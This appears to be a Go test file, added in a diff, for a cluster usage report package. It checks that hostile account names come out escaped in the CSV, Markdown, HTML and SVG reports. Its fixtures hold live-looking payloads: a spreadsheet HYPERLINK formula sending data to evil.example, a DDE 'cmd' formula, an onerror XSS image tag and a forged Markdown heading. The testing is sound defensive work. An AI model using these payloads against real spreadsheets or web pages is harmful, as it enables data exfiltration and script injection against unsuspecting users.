@@ -1,0 +1,110 @@
+package report
+
+import (
+	"bytes"
+	"encoding/csv"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// hostileReport is a report whose one account has the name given: on a
+// site that does not enforce associations a user chooses the account a
+// job names, and the report prints account names in every format.
+func hostileReport(acct string) *Report {
+	row := Row{Account: acct, Shares: 1, Entitled: 0.5, Used: 0.5, Hours: 10, Jobs: 3, Users: 1,
+		MedianWait: 60, P95Wait: 120, MedianRho: 1}
+	u := row
+	u.User = "bob"
+	return &Report{Cluster: "c", Month: "2026-10", Title: "October 2026", Unit: "GPU",
+		Summary:  Summary{Jobs: 3, Started: 3, Hours: 10, Available: 20, Utilization: 0.5, Jain: 1, MedianWait: 60, P95Wait: 120},
+		Accounts: []Row{row}, Users: []Row{u}}
+}
+
+// TestCSV_FormulaKeptAsText: a cell a spreadsheet would evaluate is written
+// with a leading apostrophe; numbers, negative ones too, are not touched.
+func TestCSV_FormulaKeptAsText(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A2,"click")`: `'=HYPERLINK("http://evil.example/?"&A2,"click")`,
+		"+cmd|' /C calc'!A0":                             "'+cmd|' /C calc'!A0",
+		"@SUM(1+1)":                                      "'@SUM(1+1)",
+		"-2+3":                                           "'-2+3",
+		"\tx":                                            "'\tx",
+		"-0.25":                                          "-0.25",
+		"physics":                                        "physics",
+		"":                                               "",
+	} {
+		if got := csvText(in); got != want {
+			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
+		}
+	}
+	dir := t.TempDir()
+	if _, err := Write(dir, hostileReport(`=HYPERLINK("http://evil.example/?"&A2,"click")`), []string{"csv"}); err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range []string{"accounts.csv", "users.csv"} {
+		b, err := os.ReadFile(filepath.Join(dir, f))
+		if err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, rec := range recs {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
+					t.Errorf("%s: formula cell %q", f, cell)
+				}
+			}
+		}
+	}
+}
+
+// TestMarkdown_NamesAsText: an account name's raw HTML, link and newline
+// come out as characters in report.md, in the tables and the highlights.
+func TestMarkdown_NamesAsText(t *testing.T) {
+	var b bytes.Buffer
+	acct := "a<img src=x onerror=alert(1)>[click](https://evil.example)|x\n\n# Forged heading"
+	if err := WriteMarkdown(&b, hostileReport(acct), nil); err != nil {
+		t.Fatal(err)
+	}
+	md := b.String()
+	for _, bad := range []string{"<img", "[click]", "\n# Forged heading"} {
+		if strings.Contains(md, bad) {
+			t.Errorf("report.md holds %q from an account name", bad)
+		}
+	}
+	esc := `a&lt;img src=x onerror=alert(1)&gt;\[click\](https://evil.example)\|x` + "\uFFFD\uFFFD# Forged heading"
+	if n := strings.Count(md, esc); n < 2 {
+		t.Errorf("the escaped name appears %d times, want in a table and the highlights:\n%s", n, md)
+	}
+}
+
+// TestFigures_NoControlCharacters: the SVG figures written beside report.md
+// stay well-formed XML, which allows no control character, and the HTML
+// page escapes the name.
+func TestFigures_NoControlCharacters(t *testing.T) {
+	r := hostileReport("a<img src=x onerror=alert(1)>\"'\x01")
+	r.waits = []accountWaits{{account: r.Accounts[0].Account, waits: []float64{1, 2, 3}}}
+	figs, err := Figures(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := WriteHTML(&b, r, figs); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(b.String(), "<img src=x") || strings.ContainsRune(b.String(), '\x01') {
+		t.Errorf("report.html holds the account name raw")
+	}
+	if len(figs) == 0 {
+		t.Fatal("no figures")
+	}
+	for _, f := range figs {
+		if bytes.ContainsRune(f.SVG, '\x01') {
+			t.Errorf("figure %s holds a control character: not well-formed XML", f.Name)
+		}
+	}
+}
